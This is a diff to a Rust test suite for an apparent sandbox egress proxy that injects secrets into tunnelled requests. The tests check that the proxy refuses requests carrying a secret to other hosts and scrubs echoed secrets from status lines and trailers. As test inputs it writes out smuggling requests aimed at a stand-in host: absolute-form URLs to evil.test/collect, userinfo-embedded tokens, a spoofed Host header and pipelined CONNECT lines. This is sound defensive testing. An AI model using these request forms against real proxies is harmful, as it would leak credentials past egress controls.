@@ -10,7 +10,7 @@ use sandboxio_core::NetworkMode;
 use sandboxio_egress::edge::{upstream_trust, EdgeCa, LoadedSecret};
 use sandboxio_egress::rules::HostGlob;
 use sandboxio_egress::secrets::SecretValue;
-use sandboxio_egress::{Edge, EgressConfig, Guard, GuardOnly, Proxy, Resolver};
+use sandboxio_egress::{Edge, EgressConfig, Guard, GuardOnly, Limits, Proxy, Resolver};
 use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
 use tokio::net::{TcpListener, TcpStream};
 
@@ -87,10 +87,33 @@ async fn tls_upstream() -> (SocketAddr, String, Seen) {
                     ),
                     _ => String::new(),
                 };
-                let resp = format!(
-                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nx-you-sent: {auth}\r\n{extra}connection: close\r\n\r\n{body}",
-                    body.len()
-                );
+                let token = auth.trim_start_matches("Bearer ");
+                // `/reason`: the token echoed in the status line's reason phrase (raw, in
+                // hex, in base64); `/trailer`: in a trailer of a chunked answer.
+                let resp = match path.as_str() {
+                    "/reason" => format!("HTTP/1.1 200 {auth}\r\ncontent-length: 3\r\nconnection: close\r\n\r\nok\n"),
+                    "/reason-hex" => format!(
+                        "HTTP/1.1 200 id {}\r\ncontent-length: 3\r\nconnection: close\r\n\r\nok\n",
+                        token.bytes().map(|b| format!("{b:02x}")).collect::<String>()
+                    ),
+                    "/reason-b64" => {
+                        use base64::Engine as _;
+                        let enc = base64::engine::general_purpose::STANDARD.encode(format!("u:{token}"));
+                        format!("HTTP/1.1 401 {enc}\r\ncontent-length: 3\r\nconnection: close\r\n\r\nok\n")
+                    }
+                    "/trailer" => format!(
+                        "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x-echo\r\nconnection: close\r\n\r\n6\r\nhello\n\r\n0\r\nx-echo: {auth}\r\nx-{}: name\r\n\r\n",
+                        token.to_ascii_lowercase()
+                    ),
+                    _ => format!(
+                        "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nx-you-sent: {auth}\r\n{extra}connection: close\r\n\r\n{body}",
+                        body.len()
+                    ),
+                };
+                // `/slow`: the answer takes 2 s.
+                if path == "/slow" {
+                    tokio::time::sleep(std::time::Duration::from_secs(2)).await;
+                }
                 let _ = s.write_all(resp.as_bytes()).await;
                 let _ = s.shutdown().await;
             });
@@ -120,6 +143,11 @@ struct Setup {
 /// bound to up.test and OTHER bound to other.test. `trust_upstream`: whether the upstream's
 /// CA is given as `upstream_ca`.
 async fn setup(trust_upstream: bool) -> Setup {
+    setup_with(trust_upstream, Limits::default()).await
+}
+
+/// [`setup`] with the proxy's own limits.
+async fn setup_with(trust_upstream: bool, limits: Limits) -> Setup {
     let (up, up_ca, seen) = tls_upstream().await;
     let (ns, _) = name_server(&[
         ("up.test", LOOP),
@@ -156,7 +184,11 @@ async fn setup(trust_upstream: bool) -> Setup {
         )
         .unwrap(),
     );
-    let proxy = Proxy::with_edge(Arc::new(GuardOnly(Arc::new(guard))), Some(edge.clone()));
+    let proxy = Proxy::with_limits(
+        Arc::new(GuardOnly(Arc::new(guard))),
+        Some(edge.clone()),
+        limits,
+    );
     let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
     let proxy_addr = l.local_addr().unwrap();
     tokio::spawn(proxy.clone().serve(l));
@@ -192,6 +224,15 @@ async fn via_tunnel_to(
     extra: &str,
     authorization: &str,
 ) -> String {
+    let req = format!(
+        "GET {path} HTTP/1.1\r\nhost: {host}\r\n{extra}authorization: {authorization}\r\nconnection: close\r\n\r\n"
+    );
+    tunnel_raw(s, host, req.as_bytes()).await
+}
+
+/// CONNECT to `host` through the proxy, TLS trusting only the sandbox's CA; the TLS
+/// stream, ready for requests.
+async fn open_tunnel(s: &Setup, host: &str) -> tokio_rustls::client::TlsStream<TcpStream> {
     let mut tcp = TcpStream::connect(s.proxy_addr).await.unwrap();
     let connect = format!(
         "CONNECT {host}:{p} HTTP/1.1\r\nhost: {host}:{p}\r\n\r\n",
@@ -209,14 +250,16 @@ async fn via_tunnel_to(
         .unwrap()
         .with_root_certificates(roots)
         .with_no_client_auth();
-    let mut tls = tokio_rustls::TlsConnector::from(Arc::new(cfg))
+    tokio_rustls::TlsConnector::from(Arc::new(cfg))
         .connect(ServerName::try_from(host.to_string()).unwrap(), tcp)
         .await
-        .expect("the proxy's leaf verifies against the sandbox's CA");
-    let req = format!(
-        "GET {path} HTTP/1.1\r\nhost: {host}\r\n{extra}authorization: {authorization}\r\nconnection: close\r\n\r\n"
-    );
-    tls.write_all(req.as_bytes()).await.unwrap();
+        .expect("the proxy's leaf verifies against the sandbox's CA")
+}
+
+/// `raw` sent as it is inside a tunnel to `host`; the whole answer.
+async fn tunnel_raw(s: &Setup, host: &str, raw: &[u8]) -> String {
+    let mut tls = open_tunnel(s, host).await;
+    tls.write_all(raw).await.unwrap();
     read_all(&mut tls).await
 }
 
@@ -356,4 +399,203 @@ async fn a_placeholder_in_cleartext_inside_an_opaque_tunnel_is_refused() {
     assert!(sum
         .denied_hosts
         .contains(&format!("plain.test:{}", s.up.port())));
+}
+
+/// The tunnel was decided for up.test, and the secret is bound to it: a request inside
+/// that names another authority (absolute-form, userinfo, `Host`) would reach another
+/// virtual host behind the same address with the value. Refused before anything leaves;
+/// the tunnel's own host in absolute-form goes origin-form.
+#[tokio::test]
+async fn a_request_naming_another_host_inside_a_terminated_tunnel_is_refused() {
+    let s = setup(true).await;
+    let p = placeholder(&s.edge, "TOKEN");
+    let port = s.up.port();
+    let auth = format!("authorization: Bearer {p}\r\nconnection: close\r\n\r\n");
+    for (line, host) in [
+        (
+            "GET https://evil.test/collect HTTP/1.1".to_string(),
+            "up.test".to_string(),
+        ),
+        (
+            format!("GET https://evil.test:{port}/collect HTTP/1.1"),
+            "up.test".into(),
+        ),
+        (
+            format!("GET https://user:{p}@evil.test/steal HTTP/1.1"),
+            "up.test".into(),
+        ),
+        (
+            format!("GET https://user:{p}@up.test:{port}/steal HTTP/1.1"),
+            "up.test".into(),
+        ),
+        (
+            "GET https://up.test/443-is-not-this-port HTTP/1.1".into(),
+            "up.test".into(),
+        ),
+        (
+            format!("GET http://up.test:{port}/x HTTP/1.1"),
+            "up.test".into(),
+        ),
+        ("GET * HTTP/1.1".into(), "up.test".into()),
+        (format!("GET up.test:{port} HTTP/1.1"), "up.test".into()),
+        ("GET /x HTTP/1.1".into(), "evil.test".into()),
+        ("GET /x HTTP/1.1".into(), format!("{p}@up.test")),
+    ] {
+        let req = format!("{line}\r\nhost: {host}\r\n{auth}");
+        let got = tunnel_raw(&s, "up.test", req.as_bytes()).await;
+        assert!(
+            got.starts_with("HTTP/1.1 403") || got.starts_with("HTTP/1.1 400"),
+            "{line} / {host}: {got}"
+        );
+        if got.starts_with("HTTP/1.1 403") {
+            assert!(got.contains("SBX_E2419"), "{line}: {got}");
+        }
+        assert!(!got.contains(VALUE), "{got}");
+    }
+    assert!(
+        s.seen.lock().unwrap().is_empty(),
+        "a request naming another host went upstream: {:?}",
+        s.seen.lock().unwrap()
+    );
+    // The tunnel's own authority in absolute-form (any case): sent origin-form, injected.
+    let req = format!("GET https://UP.test:{port}/mine?q=1 HTTP/1.1\r\nhost: up.test\r\n{auth}");
+    let got = tunnel_raw(&s, "up.test", req.as_bytes()).await;
+    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
+    let heads = s.seen.lock().unwrap().clone();
+    assert_eq!(heads.len(), 1, "{heads:?}");
+    assert!(
+        heads[0].starts_with("GET /mine?q=1 HTTP/1.1\r\n"),
+        "{heads:?}"
+    );
+    assert!(
+        heads[0].contains(&format!("host: up.test:{port}")),
+        "{heads:?}"
+    );
+    assert!(heads[0].contains(VALUE), "{heads:?}");
+    assert!(s.proxy.summary().denials >= 8, "{:?}", s.proxy.summary());
+}
+
+/// An upstream that reflects the token in its status line's reason phrase (or a trailer)
+/// handed the value to the program: the reason is the canonical one once a value went up
+/// on the tunnel, and trailers are scrubbed like headers.
+#[tokio::test]
+async fn the_reason_phrase_and_trailers_never_carry_the_value_back() {
+    let s = setup(true).await;
+    let p = placeholder(&s.edge, "TOKEN");
+    let bearer = format!("Bearer {p}");
+    let hex: String = VALUE.bytes().map(|b| format!("{b:02x}")).collect();
+    let b64 = {
+        use base64::Engine as _;
+        base64::engine::general_purpose::STANDARD.encode(format!("u:{VALUE}"))
+    };
+    for (path, status) in [
+        ("/reason", "HTTP/1.1 200 OK\r\n"),
+        ("/reason-hex", "HTTP/1.1 200 OK\r\n"),
+        ("/reason-b64", "HTTP/1.1 401 Unauthorized\r\n"),
+    ] {
+        let got = via_tunnel_to(&s, "up.test", path, "", &bearer).await;
+        assert!(got.starts_with(status), "{path}: {got}");
+        for form in [VALUE, hex.as_str(), &b64[4..20]] {
+            assert!(!got.contains(form), "{path}: the value came back: {got}");
+        }
+    }
+    // Trailers, asked for by the program.
+    let got = via_tunnel_to(&s, "up.test", "/trailer", "te: trailers\r\n", &bearer).await;
+    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
+    assert!(
+        !got.to_ascii_lowercase()
+            .contains(&VALUE.to_ascii_lowercase()),
+        "the value came back in a trailer: {got}"
+    );
+    // Nothing injected on the tunnel and nothing of a value in it: the reason stays.
+    let got = via_tunnel_to(&s, "up.test", "/reason", "", "Bearer none").await;
+    assert!(got.starts_with("HTTP/1.1 200 Bearer none\r\n"), "{got}");
+}
+
+/// A terminated tunnel whose client never starts TLS (or stops talking) is closed once
+/// idle, like an opaque one.
+#[tokio::test]
+async fn an_idle_terminated_tunnel_is_closed() {
+    let limits = Limits {
+        idle: std::time::Duration::from_secs(1),
+        ..Limits::default()
+    };
+    let s = setup_with(true, limits).await;
+    let mut tcp = TcpStream::connect(s.proxy_addr).await.unwrap();
+    let connect = format!(
+        "CONNECT up.test:{p} HTTP/1.1\r\nhost: up.test:{p}\r\n\r\n",
+        p = s.up.port()
+    );
+    tcp.write_all(connect.as_bytes()).await.unwrap();
+    assert!(head_of(&mut tcp).await.starts_with("HTTP/1.1 200"));
+    let mut rest = Vec::new();
+    let n = tokio::time::timeout(
+        std::time::Duration::from_secs(5),
+        tcp.read_to_end(&mut rest),
+    )
+    .await
+    .expect("a silent terminated tunnel stayed open");
+    assert_eq!(n.unwrap_or(0), 0);
+    // After a request, too.
+    let mut tls = open_tunnel(&s, "up.test").await;
+    tls.write_all(b"GET /v1/me HTTP/1.1\r\nhost: up.test\r\n\r\n")
+        .await
+        .unwrap();
+    let got = tokio::time::timeout(std::time::Duration::from_secs(5), read_all(&mut tls)).await;
+    assert!(got
+        .expect("an idle terminated tunnel stayed open")
+        .starts_with("HTTP/1.1 200"));
+    // An upstream slower than the idle time: the tunnel waits for its answer.
+    let got = via_tunnel_to(&s, "up.test", "/slow", "", "Bearer none").await;
+    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
+}
+
+/// In a terminated tunnel every request is parsed: a CONNECT (any case) is refused at each
+/// request boundary, not only as the first bytes, and a request line that does not parse
+/// ends the tunnel; nothing of either reaches the upstream.
+#[tokio::test]
+async fn a_connect_anywhere_in_a_terminated_tunnel_is_refused() {
+    let s = setup(true).await;
+    let first = "GET /v1/me HTTP/1.1\r\nhost: up.test\r\n\r\n";
+    for (inner, expect) in [
+        (
+            "CONNECT evil.test:443 HTTP/1.1\r\nhost: evil.test:443\r\n\r\n",
+            "SBX_E2413",
+        ),
+        (
+            "connect evil.test:443 HTTP/1.1\r\nhost: evil.test:443\r\n\r\n",
+            "SBX_E2413",
+        ),
+        (
+            "Connect https://evil.test/ HTTP/1.1\r\nhost: up.test\r\n\r\n",
+            "SBX_E2413",
+        ),
+        (
+            "\x0bCONNECT evil.test:443 HTTP/1.1\r\nhost: evil.test:443\r\n\r\n",
+            "HTTP/1.1 400",
+        ),
+    ] {
+        // Pipelined after a first request, in the same write.
+        let got = tunnel_raw(&s, "up.test", format!("{first}{inner}").as_bytes()).await;
+        assert!(got.starts_with("HTTP/1.1 200"), "{inner:?}: {got}");
+        let second = &got[4..];
+        let at = second.find("HTTP/1.1 ").map(|i| &second[i..]).unwrap_or("");
+        assert!(at.contains(expect), "{inner:?}: {got}");
+        // After a first request that was answered.
+        let mut tls = open_tunnel(&s, "up.test").await;
+        tls.write_all(first.as_bytes()).await.unwrap();
+        let mut buf = vec![0u8; 4096];
+        let n = tls.read(&mut buf).await.unwrap();
+        assert!(buf[..n].starts_with(b"HTTP/1.1 200"));
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+        tls.write_all(inner.as_bytes()).await.unwrap();
+        let got = read_all(&mut tls).await;
+        assert!(got.contains(expect), "{inner:?}: {got}");
+    }
+    let seen = s.seen.lock().unwrap().clone();
+    assert!(
+        seen.iter().all(|h| h.starts_with("GET /v1/me ")),
+        "something else reached the upstream: {seen:?}"
+    );
+    assert_eq!(seen.len(), 8, "{seen:?}");
 }
